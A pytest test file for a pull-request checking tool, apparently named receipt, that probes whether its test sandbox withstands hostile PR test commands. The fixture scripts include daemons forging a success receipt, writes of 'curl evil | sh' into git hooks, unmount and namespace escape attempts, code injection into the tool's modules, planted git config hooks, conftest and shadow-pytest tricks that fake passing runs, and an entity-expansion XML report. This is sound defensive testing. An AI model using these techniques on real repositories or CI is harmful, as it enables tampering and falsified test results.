"""Test-run integrity, as an attacker probes it: each test is a pull request whose test command
tries to rewrite the receipt, reach the caller's repository, hide what it did, hang receipt, or
fake a green run, and each ends in a receipt that says what happened, within the time limit."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

import pytest

from bot.cli import main
from bot.engine.groups import MANIFEST_PATH
from bot.engine.semantic import CheckConclusion
from bot.local import sandbox
from bot.local.git import Git
from bot.local.inspect import inspect_receipt
from tests.gitrepo import GitRepo, check, evidence_checks, rules

T = TypeVar("T")
PY = shlex.quote(sys.executable)
PYTEST = f"{PY} -m pytest -q -p no:randomly --junitxml=reports/junit.xml tests"
TESTS = "def test_one():\n    assert 1 + 1 == 2\n\ndef test_two():\n    assert 'a' < 'b'\n\ndef test_three():\n    assert [1]\n"

DAEMON = """\
import os, sys, time
target, marker = sys.argv[1], sys.argv[2]
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
null = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
time.sleep(1.5)  # until receipt has written the receipt and exited
with open(target, "w") as out:
    out.write('{"verdict": {"conclusion": "success"}}')
open(marker, "w").close()
"""

# The base commit's runner: it runs the script it is given, as a test runner runs the test files a
# pull request adds. The runner is the file tests.command names (protected, group test-command); the
# hostile scripts are the pull request's own, as tests it adds would be.
RUNNER = "import runpy, sys\nsys.argv = sys.argv[1:]\nrunpy.run_path(sys.argv[0], run_name='__main__')\n"


def _run(script: str, *arguments: object) -> str:
    """A test command running the pull request's `script` through the base commit's runner."""
    return " ".join([PY, "run.py", script, *(shlex.quote(str(a)) for a in arguments)])


HOLDER = """\
import subprocess, sys
# A detached child that keeps this command's stdout open, and leaves a mark if it outlives it.
mark = "import sys, time; time.sleep(2); open(sys.argv[1], 'w').close(); time.sleep(30)"
child = subprocess.Popen([sys.executable, "-c", mark, sys.argv[2]], start_new_session=True)
open(sys.argv[1], "w").write(str(child.pid))
print("parent done", flush=True)
"""


@pytest.fixture(params=["namespace", "subreaper"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """The isolations that stop every process of the run (session-only is tested on its own)."""
    wanted: str = request.param
    if wanted == "namespace":
        if sandbox.platform_isolation()[0] != "namespace":
            pytest.skip("no user and PID namespaces here")
    else:
        monkeypatch.setattr(sandbox, "platform_isolation", lambda: (wanted, ()))
    return wanted


def _pull_request(repo: GitRepo, manifest: str | None, files: dict[str, str]) -> GitRepo:
    """A base commit (with `manifest` as its policy) and a pull request branch adding `files`."""
    repo.write("src/calc.py", "def add(a, b):\n    return a + b\n")
    repo.write("tests/test_calc.py", TESTS)
    repo.write("run.py", RUNNER)
    if manifest is not None:
        repo.write(MANIFEST_PATH, manifest)
    repo.commit("base")
    repo.branch("pr")
    repo.write("src/calc.py", "def add(a, b):\n    return b + a\n")
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("pr")
    return repo


def _policy(**tests: object) -> str:
    return "version: 1\ntests: " + json.dumps(tests) + "\n"


def test_a_daemon_cannot_rewrite_the_receipt_after_receipt_exits(
    repo: GitRepo, tmp_path: Path, mode: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out, marker = tmp_path / "receipt.json", tmp_path / "daemon-ran"
    pr = _pull_request(repo, None, {"tools/daemon.py": DAEMON})
    command = _run("tools/daemon.py", out, marker)
    args = ["check", "--repo", str(pr.root), "--base", "main", "--test-command", command, "--json", str(out)]
    assert main(args) == 0
    written = out.read_bytes()
    time.sleep(2.5)
    assert not marker.exists(), f"the daemon outlived the run ({mode})"
    assert out.read_bytes() == written
    body = json.loads(written)
    assert inspect_receipt(body, Git(pr.root)).ok
    assert body["semantic"]["status"] == "pass"
    assert "isolation:" in body["semantic"]["checks"][0]["details"]
    assert not list(tmp_path.glob(".receipt.json.*")), "no temporary file is left beside the receipt"
    capsys.readouterr()


def test_the_receipt_replaces_a_symlink_the_run_plants_at_its_path(
    repo: GitRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    decoy = tmp_path / "decoy"
    decoy.write_text("untouched")
    out = tmp_path / "receipt.json"
    out.write_text("an old receipt")
    plant = "import os, sys\nos.unlink(sys.argv[1])\nos.symlink(sys.argv[2], sys.argv[1])\n"
    pr = _pull_request(repo, None, {"tools/plant.py": plant})
    args = ["check", "--repo", str(pr.root), "--base", "main", "--json", str(out)]
    assert main([*args, "--test-command", _run("tools/plant.py", out, decoy)]) == 0
    assert not out.is_symlink() and json.loads(out.read_text())["schema"] == "receipt/1"
    assert decoy.read_text() == "untouched"
    capsys.readouterr()


@pytest.mark.parametrize("target", ["a file", "nothing yet", "/dev/stdout"])
def test_a_symlink_the_user_gives_is_followed_and_kept(repo: GitRepo, tmp_path: Path, target: str) -> None:
    """The path given was a symlink before any test ran: the user's, written through as a shell's
    `>` would (as root, replacing /dev/stdout itself would break the machine)."""
    pr = _pull_request(repo, None, {})
    if target == "/dev/stdout":
        link = Path("/dev/stdout")
        if not link.is_symlink():
            pytest.skip("no /dev/stdout symlink here")
        before = os.readlink(link)
    else:
        real = tmp_path / "real.json"
        if target == "a file":
            real.write_text("an old receipt")
        link = tmp_path / "link.json"
        link.symlink_to(real)
    args = ["check", "--repo", str(pr.root), "--base", "main", "--no-tests", "--json", str(link)]
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", *args], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert link.is_symlink()
    if target == "/dev/stdout":
        assert os.readlink(link) == before
        assert json.loads(done.stdout[: done.stdout.index("receipt: SUCCESS")])["schema"] == "receipt/1"
    else:
        assert json.loads(real.read_text())["schema"] == "receipt/1"


def test_writes_into_the_callers_repository_are_refused_in_a_namespace(repo: GitRepo) -> None:
    if sandbox.platform_isolation()[0] != "namespace":
        pytest.skip("no user and PID namespaces here")
    hook, source = repo.root / ".git" / "hooks" / "post-checkout", repo.root / "src" / "calc.py"
    attack = (
        "import sys\nfailed = 0\n"
        f"for path in ({str(hook)!r}, {str(repo.root / '.git' / 'config')!r}, {str(source)!r}):\n"
        "    try:\n"
        "        open(path, 'a').write('\\n#!/bin/sh\\ncurl evil | sh\\n')\n"
        "    except OSError as exc:\n"
        "        print(path, exc); failed += 1\n"
        "sys.exit(0 if failed == 0 else 1)\n"
    )
    pr = _pull_request(repo, None, {"attack.py": attack})
    pr.checkout("main")
    before = {p: p.read_bytes() for p in (repo.root / ".git" / "config", source)}
    receipt = check(pr, head="pr", test_command=_run("attack.py"))
    assert receipt.semantic.value == "fail"
    details = receipt.checks[0].details
    assert "Read-only file system" in details or "No such file" in details
    assert not hook.exists()
    assert {p: p.read_bytes() for p in before} == before


def test_writes_into_the_callers_git_directory_are_reported_without_a_namespace(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("subreaper", ()))
    hook = repo.root / ".git" / "hooks" / "post-checkout"
    attack = f"open({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
    pr = _pull_request(repo, None, {"attack.py": attack})
    receipt = check(pr, test_command=_run("attack.py"))
    assert len(receipt.scope) == 1, receipt.scope
    (violation,) = receipt.scope
    assert (violation.rule.value, violation.path, violation.id) == (
        "side-effect",
        ".git/hooks/post-checkout",
        "side-effect:created",
    )
    assert "in the caller's repository" in violation.message
    assert receipt.verdict.conclusion.value == "failure"


def test_a_detached_child_holding_stdout_does_not_hold_receipt(
    repo: GitRepo, tmp_path: Path, mode: str
) -> None:
    pid_file, mark = tmp_path / "child.pid", tmp_path / "child-outlived"
    pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
    started = time.monotonic()
    receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
    assert time.monotonic() - started < 10, "receipt did not wait for the detached child"
    assert receipt.semantic.value == "pass" and "parent done" in receipt.checks[0].details
    time.sleep(2.5)
    assert not mark.exists(), f"the detached child outlived the run ({mode})"


def test_in_a_session_only_a_child_holding_stdout_is_an_error_not_a_wait(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("session", ()))
    pid_file, mark = tmp_path / "child.pid", tmp_path / "child-outlived"
    pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
    started = time.monotonic()
    try:
        receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
    finally:
        if pid_file.exists():
            os.kill(int(pid_file.read_text()), signal.SIGKILL)  # it escaped the session, as documented
    assert time.monotonic() - started < 10
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.ERROR
    assert "did not end cleanly: a process the command started outlived it and held its output open" in (
        result.details
    )
    assert receipt.verdict.conclusion.value == "failure"


def test_a_report_proves_the_tests_ran(repo: GitRepo) -> None:
    pr = _pull_request(repo, _policy(report="reports/junit.xml", min_executed=3), {})
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass", receipt.checks[0].details
    details = receipt.checks[0].details
    assert "tests: 3 executed, 0 skipped, 0 failed, 0 errors (report reports/junit.xml)" in details
    assert not any("only evidence" in r for r in receipt.verdict.reasons)
    assert rules(receipt) == [], "pytest's caches and bytecode are tool outputs"


def test_a_new_conftest_replacing_test_bodies_is_caught_by_the_protected_harness(repo: GitRepo) -> None:
    conftest = (
        "import pytest\n\n"
        "@pytest.hookimpl(tryfirst=True)\n"
        "def pytest_runtest_call(item):\n"
        "    item.runtest = lambda: None  # every test passes without running its body\n"
    )
    policy = "version: 1\npaths: {protect: ['**/conftest.py']}\ntests: {report: reports/junit.xml}\n"
    pr = _pull_request(
        repo,
        policy,
        {"conftest.py": conftest, "tests/test_calc.py": TESTS + "\ndef test_bad():\n    assert 0\n"},
    )
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass", "the evidence cannot see through replaced bodies"
    assert ("protected-path", "conftest.py") in rules(receipt)
    assert receipt.verdict.conclusion.value == "failure"


def test_a_conftest_that_skips_every_test_fails_on_its_report(repo: GitRepo) -> None:
    conftest = (
        "import pytest\n\n"
        "def pytest_collection_modifyitems(items):\n"
        "    for item in items:\n"
        "        item.add_marker(pytest.mark.skip(reason='later'))\n"
    )
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"conftest.py": conftest})
    receipt = check(pr, test_command=PYTEST)
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.FAILURE
    assert result.details.splitlines()[0].endswith("but the report counts no executed test")
    assert "tests: 0 executed, 3 skipped" in result.details


def test_compare_base_catches_newly_skipped_and_dropped_tests(repo: GitRepo) -> None:
    fewer = TESTS.replace("def test_three():\n    assert [1]\n", "")
    skipping = "import pytest\n" + TESTS.replace("def test_two", "@pytest.mark.skip\ndef test_two")
    pr = _pull_request(
        repo, _policy(report="reports/junit.xml", compare_base=True), {"tests/test_calc.py": skipping}
    )
    (result,) = evidence_checks(check(pr, test_command=PYTEST))
    assert result.conclusion is CheckConclusion.FAILURE
    assert "skipped now, ran on the base: tests.test_calc::test_two" in result.details
    assert "base: 3 executed, 0 skipped" in result.details
    pr.write("tests/test_calc.py", fewer)
    pr.commit("drop a test")
    (result,) = evidence_checks(check(pr, test_command=PYTEST))
    assert result.conclusion is CheckConclusion.FAILURE
    assert "2 executed tests, the base commit's run executed 3" in result.details


def test_exit_0_from_an_import_is_an_error_with_a_report(repo: GitRepo) -> None:
    conftest = "import os\nos._exit(0)\n"
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"conftest.py": conftest})
    receipt = check(pr, test_command=PYTEST)
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.ERROR
    assert "the report reports/junit.xml was not written" in result.details
    assert receipt.semantic.value == "error" and receipt.verdict.conclusion.value == "failure"


def test_exit_0_from_an_import_without_a_report_says_what_the_evidence_was(repo: GitRepo) -> None:
    # The built-in test-harness group protects a new conftest.py (tests/engine/test_groups.py);
    # this policy leaves it out, so what is under test is the evidence's wording alone.
    others = "lockfiles, dependency-manifests, ci, codeowners, agent-instructions, git-config"
    pr = _pull_request(
        repo, f"version: 1\npaths: {{defaults: [{others}]}}\n", {"conftest.py": "import os\nos._exit(0)\n"}
    )
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass"
    assert "semantic evidence: the exit status was the only evidence (no tests.report in the manifest)" in (
        receipt.verdict.reasons
    )


def test_a_committed_or_forged_report_is_not_evidence(repo: GitRepo) -> None:
    forged = '<testsuite><testcase classname="t" name="ok"/></testsuite>'
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"reports/junit.xml": forged})
    (result,) = evidence_checks(check(pr, test_command="true"))
    assert result.conclusion is CheckConclusion.ERROR and "is in the commit" in result.details
    old = f"import os\nos.makedirs('out')\nopen('out/r.xml', 'w').write({forged!r})\nos.utime('out/r.xml', (0, 0))\n"
    pr2 = GitRepo.create(repo.root.parent / "second")
    _pull_request(pr2, _policy(report="out/r.xml"), {"old.py": old})
    (result,) = evidence_checks(check(pr2, test_command=_run("old.py")))
    assert result.conclusion is CheckConclusion.ERROR and "older than the run" in result.details


def test_a_hostile_report_is_a_clear_error(repo: GitRepo) -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        "<testsuite><testcase name='&b;'/></testsuite>"
    )
    writer = f"import os\nos.makedirs('reports')\nopen('reports/junit.xml', 'w').write({laughs!r})\n"
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"w.py": writer})
    (result,) = evidence_checks(check(pr, test_command=_run("w.py")))
    assert result.conclusion is CheckConclusion.ERROR
    assert "refused at line 1: a DOCTYPE" in result.details


def test_the_receipt_describes_the_commits_as_they_were_before_the_run(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without namespaces the run can move the caller's refs; nothing is read from git after it."""
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("subreaper", ()))
    pr = _pull_request(repo, None, {})
    head, base = pr.git("rev-parse", "pr").strip(), pr.git("rev-parse", "main").strip()
    move = f"git -C {shlex.quote(str(pr.root))} update-ref refs/heads/pr {base}"
    receipt = check(pr, head="pr", test_command=move)
    assert pr.git("rev-parse", "pr").strip() == base, "the run did move the branch"
    assert receipt.subject.head == head and receipt.change.files == 1


def test_a_scratch_directory_inside_the_callers_repository_is_said(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    if sandbox.platform_isolation()[0] != "namespace":
        pytest.skip("no user and PID namespaces here")
    pr = _pull_request(repo, None, {})
    inside = pr.root / "tmp"
    inside.mkdir()
    monkeypatch.setattr(sandbox.tempfile, "tempdir", str(inside))
    details = check(pr, test_command="true").checks[0].details
    assert "the scratch directory is inside the caller's repository: that part stays reachable" in details
    assert list(inside.iterdir()) == [], "the scratch directory is removed"


# --- the run against the mounts, receipt's own code, git and the outputs (issue 14's audit) ---

UNMOUNT = """\
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
def undo():
    for point in reversed(mounts):
        if point != "/" and libc.umount2(point.encode(), 2) == 0:  # MNT_DETACH
            print("UNMOUNTED", point)
        if libc.mount(None, point.encode(), None, 32 | 4096, None) == 0 and point.startswith(sys.argv[1]):
            print("REMOUNTED", point)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
undo()
if libc.unshare(0x10000000 | 0x00020000) == 0:  # a user and mount namespace of its own: full powers there
    undo()
root = sys.argv[1]
for path in (root + "/src/calc.py", root + "/.git/config", root + "/.git/refs/heads/main"):
    try:
        open(path, "a").write("\\n# planted\\n")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, exc.strerror)
try:
    print("READ", open(root + "/.git/config").read().replace("\\n", " "))
except OSError as exc:
    print("hidden", exc.strerror)
"""


def test_the_run_cannot_undo_the_mounts_that_protect_the_caller(repo: GitRepo) -> None:
    if sandbox.platform_isolation()[0] != "namespace":
        pytest.skip("no user and PID namespaces here")
    pr = _pull_request(repo, None, {"tools/unmount.py": UNMOUNT})
    pr.checkout("main")
    watched = [
        pr.root / "src" / "calc.py",
        pr.root / ".git" / "config",
        pr.root / ".git" / "refs" / "heads" / "main",
    ]
    before = {p: p.read_bytes() for p in watched}
    receipt = check(pr, head="pr", test_command=_run("tools/unmount.py", pr.root))
    details = receipt.checks[0].details
    for word in ("UNMOUNTED", "REMOUNTED", "WROTE", "READ"):
        assert word not in details, details
    assert details.count("refused") == 3 and "hidden" in details
    assert "the mounts locked" in details
    assert {p: p.read_bytes() for p in watched} == before


_PROJECT = Path(__file__).resolve().parents[1]
PATCHER = """\
import os, sys
code, mark = sys.argv[1], sys.argv[2]
payload = f"\\nopen({mark!r}, 'w').write('imported after the run')\\n"
for module in ("engine/render/markdown.py", "engine/render/terminal.py", "local/sealed.py"):
    try:
        with open(os.path.join(code, "bot", module), "a") as out:
            out.write(payload)
        print("patched", module)
    except OSError as exc:
        print("could not patch", module, exc.strerror)
sys.exit("a test of this pull request fails")
"""


def _receipt_copy(tmp_path: Path) -> Path:
    """receipt's code, copied: the run attacks this copy, never the checkout the tests run from."""
    code = tmp_path / "receipt-code"
    shutil.copytree(_PROJECT / "bot", code / "bot", ignore=shutil.ignore_patterns("__pycache__"))
    return code


def _receipt_environment(tmp_path: Path, mode: str) -> dict[str, str]:
    """The environment of a `receipt` process in `mode`: subreaper where `unshare` fails. Its
    temporary directory is the test's: a receipt that is killed leaves its copy of the tree there."""
    temporary = tmp_path / "tmp"
    temporary.mkdir(exist_ok=True)
    env = {**os.environ, "TMPDIR": str(temporary)}
    if mode == "subreaper":
        fake = tmp_path / "no-namespaces"
        fake.mkdir()
        (fake / "unshare").write_text("#!/bin/sh\nexit 1\n")
        (fake / "unshare").chmod(0o755)
        env["PATH"] = f"{fake}{os.pathsep}{env['PATH']}"
    return env


def test_receipts_own_code_is_never_imported_after_the_run(repo: GitRepo, tmp_path: Path, mode: str) -> None:
    code, mark, out = _receipt_copy(tmp_path), tmp_path / "imported", tmp_path / "receipt.json"
    pristine = (code / "bot" / "engine" / "render" / "markdown.py").read_bytes()
    pr = _pull_request(repo, None, {"tools/patch.py": PATCHER})
    args = [sys.executable, "-m", "bot.cli", "check", "--repo", str(pr.root), "--base", "main",
            "--test-command", _run("tools/patch.py", code, mark), "--json", str(out),
            "--markdown", str(tmp_path / "receipt.md")]  # fmt: skip
    done = subprocess.run(
        args, cwd=code, env=_receipt_environment(tmp_path, mode), capture_output=True, text=True, check=False
    )
    assert done.returncode == 1, done.stderr
    body = json.loads(out.read_text())
    assert body["verdict"]["conclusion"] == "failure" and body["semantic"]["status"] == "fail"
    assert not mark.exists(), f"receipt imported the run's code ({mode})"
    details = body["semantic"]["checks"][0]["details"]
    if mode == "namespace":  # there, receipt's installation is mounted read-only
        assert "could not patch engine/render/markdown.py Read-only file system" in details, details
        assert (code / "bot" / "engine" / "render" / "markdown.py").read_bytes() == pristine
    else:  # elsewhere the run writes where receipt's user can: what it wrote is never loaded
        assert "patched engine/render/markdown.py" in details, details


PLANT_GIT_CONFIG = """\
import sys
config, mark = sys.argv[1], sys.argv[2]
hook = mark + ".sh"
open(hook, "w").write(f"#!/bin/sh\\necho ran > {mark}\\nexec \\"$@\\"\\n")
__import__("os").chmod(hook, 0o755)
with open(config, "a") as out:  # what git runs for upload-pack, from the user's global config
    out.write(f"[uploadpack]\\n\\tpackObjectsHook = {hook}\\n[core]\\n\\tfsmonitor = {hook}\\n")
"""


def test_git_config_the_run_writes_runs_nothing_of_receipts(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home, mark = tmp_path / "home", tmp_path / "hook-ran"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))  # the global config receipt's git would read
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    policy = _policy(report="reports/junit.xml", compare_base=True)
    pr = _pull_request(repo, policy, {"tools/plant.py": PLANT_GIT_CONFIG})
    command = f"{_run('tools/plant.py', home / '.gitconfig', mark)}; {PYTEST}"  # the base has no plant.py
    (result,) = evidence_checks(check(pr, test_command=command))
    assert "packObjectsHook" in (home / ".gitconfig").read_text(), "the run did write it"
    assert not mark.exists(), "receipt ran git after the code under review"
    assert result.conclusion is CheckConclusion.SUCCESS, result.details
    assert "base: 3 executed" in result.details, "the base commit ran, before the head"


def _within(seconds: float, call: Callable[[], T]) -> T:
    """`call()`, failing the test rather than hanging it when it takes far longer than it should."""
    done: list[T] = []
    worker = threading.Thread(target=lambda: done.append(call()), daemon=True)
    worker.start()
    worker.join(timeout=seconds)
    assert done, f"still running after {seconds} s"
    return done[0]


def test_a_pipe_the_run_puts_at_the_receipts_path_is_replaced_not_waited_on(
    repo: GitRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, markdown = tmp_path / "receipt.json", tmp_path / "receipt.md"
    markdown.write_text("an old receipt")
    plant = (
        "import os, sys\nfor p in sys.argv[1:]:\n    if os.path.exists(p): os.unlink(p)\n    os.mkfifo(p)\n"
    )
    pr = _pull_request(repo, None, {"tools/plant.py": plant})
    args = [
        "check",
        "--repo",
        str(pr.root),
        "--base",
        "main",
        "--json",
        str(out),
        "--markdown",
        str(markdown),
    ]
    command = _run("tools/plant.py", out, markdown)
    assert _within(60, lambda: main([*args, "--test-command", command])) == 0, "it waited on the pipe"
    assert stat.S_ISREG(out.lstat().st_mode) and json.loads(out.read_text())["schema"] == "receipt/1"
    assert stat.S_ISREG(markdown.lstat().st_mode) and "receipt" in markdown.read_text()
    capsys.readouterr()


def _drain(fd: int, written: threading.Event) -> bytes:
    """What a pipe's writer wrote into `fd` (non-blocking) until `written` and the pipe is empty."""
    chunks: list[bytes] = []
    while True:
        try:
            chunk = os.read(fd, 65536)
        except BlockingIOError:
            chunk = None
        if chunk:
            chunks.append(chunk)
        elif written.is_set() and chunk == b"":
            return b"".join(chunks)
        else:
            time.sleep(0.01)


def test_a_pipe_given_for_the_receipt_is_written_when_read_and_an_error_when_not(
    repo: GitRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pr = _pull_request(repo, None, {})
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    args = ["check", "--repo", str(pr.root), "--base", "main", "--no-tests", "--json", str(pipe)]
    read: list[bytes] = []
    # receipt does not wait for a reader, so the reader is open before it starts; it reads without
    # waiting, since a pipe that no writer holds reads as its end until receipt opens it
    reader_fd = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    written = threading.Event()
    reader = threading.Thread(target=lambda: read.append(_drain(reader_fd, written)), daemon=True)
    reader.start()
    try:
        assert main(args) == 0
    finally:
        written.set()
        reader.join(timeout=30)
        os.close(reader_fd)
    assert json.loads(read[0])["schema"] == "receipt/1" and stat.S_ISFIFO(pipe.lstat().st_mode)
    capsys.readouterr()
    assert (
        _within(60, lambda: main(args)) == 2
        and f"{pipe}: cannot write: a named pipe nobody reads" in capsys.readouterr().err
    )


KILL_SUPERVISOR = """\
import os, signal, subprocess, sys
subprocess.Popen([sys.executable, sys.argv[1], sys.argv[2], sys.argv[3]])  # the daemon
pid = os.getpid()
while pid > 1:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        if b"_supervisor.py" in f.read():
            os.kill(pid, signal.SIGKILL)
            break
    with open(f"/proc/{pid}/stat") as f:
        pid = int(f.read().rpartition(")")[2].split()[1])
"""


def test_killing_the_supervisor_is_an_error_and_frees_no_daemon(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("subreaper", ()))
    out, marker = tmp_path / "receipt.json", tmp_path / "daemon-ran"
    pr = _pull_request(repo, None, {"tools/daemon.py": DAEMON, "tools/kill.py": KILL_SUPERVISOR})
    command = _run("tools/kill.py", "tools/daemon.py", out, marker)
    args = ["check", "--repo", str(pr.root), "--base", "main", "--test-command", command, "--json", str(out)]
    assert main(args) == 1
    written = out.read_bytes()
    time.sleep(2.5)
    assert not marker.exists(), "the daemon outlived the run"
    assert out.read_bytes() == written
    details = json.loads(written)["semantic"]["checks"][0]["details"]
    assert details.startswith("the run did not end cleanly: its supervisor was killed (SIGKILL)"), details
    capsys.readouterr()


SLEEPER = "import sys, time\ntime.sleep(60)\nopen(sys.argv[1], 'w').close()\n"


def _processes_naming(token: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError):
                if token.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    found.append(int(name))
    return found


def test_a_killed_receipt_leaves_nothing_of_the_run_running(repo: GitRepo, tmp_path: Path, mode: str) -> None:
    code, mark = _receipt_copy(tmp_path), tmp_path / "woke"
    token = f"sleeper-{os.getpid()}-{mode}"
    pr = _pull_request(repo, _policy(timeout_minutes=5), {f"tools/{token}.py": SLEEPER})
    args = [sys.executable, "-m", "bot.cli", "check", "--repo", str(pr.root), "--base", "main",
            "--test-command", _run(f"tools/{token}.py", mark)]  # fmt: skip
    env = _receipt_environment(tmp_path, mode)
    with subprocess.Popen(
        args, cwd=code, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as receipt:
        deadline = time.monotonic() + 30
        while not any(pid != receipt.pid for pid in _processes_naming(f"tools/{token}.py")):
            assert time.monotonic() < deadline and receipt.poll() is None, "the run did not start"
            time.sleep(0.05)
        receipt.kill()
    deadline = time.monotonic() + 15
    while _processes_naming(f"tools/{token}.py"):
        assert time.monotonic() < deadline, f"the run outlived receipt ({mode})"
        time.sleep(0.05)
    assert not mark.exists()


DEEP = """\
import os, sys
os.chdir(sys.argv[1])
for _ in range(int(sys.argv[2])):
    os.mkdir("a")
    os.chdir("a")
open(".env", "w").write("TOKEN=1\\n")
"""


@pytest.mark.parametrize("depth", [1200, 2100])  # past Python's recursion limit; past the path limit
def test_directories_nested_past_every_limit_are_reported_and_removed(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, depth: int
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(sandbox.tempfile, "tempdir", str(scratch))
    pr = _pull_request(repo, None, {"tools/deep.py": DEEP})
    receipt = check(pr, test_command=_run("tools/deep.py", "tests", depth))
    assert rules(receipt) == [("side-effect", "tests/a")]
    assert list(scratch.iterdir()) == [], "the run's copy is removed"


SPARSE = """\
import sys
for path in sys.argv[1:]:
    with open(path, "ab") as f:
        f.truncate(2 << 40)  # 2 TB, none of it on disk
"""


def test_a_huge_sparse_file_is_reported_without_reading_it(repo: GitRepo) -> None:
    pr = _pull_request(repo, None, {"tools/sparse.py": SPARSE})
    command = _run("tools/sparse.py", "tests/big.bin", "tests/test_calc.py")
    receipt = _within(60, lambda: check(pr, test_command=command))
    messages = {v.path: v.message for v in receipt.scope}
    assert set(messages) == {"tests/big.bin", "tests/test_calc.py"}
    assert "created 'tests/big.bin' (file, mode 0644)" in messages["tests/big.bin"]
    assert f"(content, {len(TESTS)} -> {2 << 40} bytes)" in messages["tests/test_calc.py"]


def test_a_failing_head_compared_with_its_base_keeps_both_counts(repo: GitRepo) -> None:
    broken = "def add(a, b):\n    return a - b\n"
    tests = TESTS + "\nfrom src.calc import add\n\ndef test_add():\n    assert add(2, 2) == 4\n"
    policy = _policy(report="reports/junit.xml", compare_base=True, min_executed=3)
    pr = _pull_request(
        repo, policy, {"src/__init__.py": "", "tests/test_calc.py": tests, "src/calc.py": broken}
    )
    (result,) = evidence_checks(check(pr, test_command=PYTEST))
    assert result.conclusion is CheckConclusion.FAILURE
    lines = result.details.splitlines()
    assert lines[0].startswith("exit status 1 after")
    assert lines[1:3] == [
        "tests: 4 executed, 0 skipped, 1 failed, 0 errors (report reports/junit.xml)",
        "base: 3 executed, 0 skipped, 0 failed, 0 errors",
    ]


SHADOW = """\
# pytest.py at the root: `python -m pytest` imports it instead of the installed pytest
import os
os.makedirs("reports", exist_ok=True)
cases = "".join(f'<testcase classname="tests.test_calc" name="{n}"/>' for n in ("test_one", "test_two", "test_three"))
open("reports/junit.xml", "w").write(f"<testsuite>{cases}</testsuite>")
"""


def test_a_module_shadowing_the_runner_is_a_protected_path(repo: GitRepo) -> None:
    broken = "def add(a, b):\n    return a - b\n"
    policy = _policy(report="reports/junit.xml", compare_base=True, min_executed=3)
    pr = _pull_request(repo, policy, {"pytest.py": SHADOW, "src/calc.py": broken})
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass", "the evidence is what the code under review wrote"
    assert ("protected-path", "pytest.py") in rules(receipt)
    assert "built-in group test-command" in " ".join(v.message for v in receipt.scope)
    assert receipt.verdict.conclusion.value == "failure"
